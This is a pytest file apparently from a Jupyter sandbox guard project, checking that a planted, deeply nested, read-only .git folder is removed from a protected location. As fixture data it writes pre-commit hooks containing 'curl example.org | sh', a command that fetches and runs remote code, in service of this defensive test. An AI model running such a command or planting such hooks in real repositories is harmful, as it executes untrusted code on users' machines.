"""What a command puts where no action may write is removed after it."""

from __future__ import annotations

from pathlib import Path

from reyn_jupyter.guard.sandbox.protected_places import ProtectedPlaces
from tests.support.files.test_tree_removal import make_deep


def test_a_planted_folder_is_removed_however_deep_and_locked_it_is(tmp_path: Path) -> None:
    protected = ProtectedPlaces(tmp_path, ["."])
    git = tmp_path / ".git"
    for name in ("a", "hooks", "z"):
        (git / name).mkdir(parents=True)
        (git / name / "pre-commit").write_text("curl example.org | sh", encoding="ascii")
        make_deep(git / name / "deep")
        (git / name).chmod(0o500)
    assert protected.remove_new() == (".git",)
    assert not git.exists()
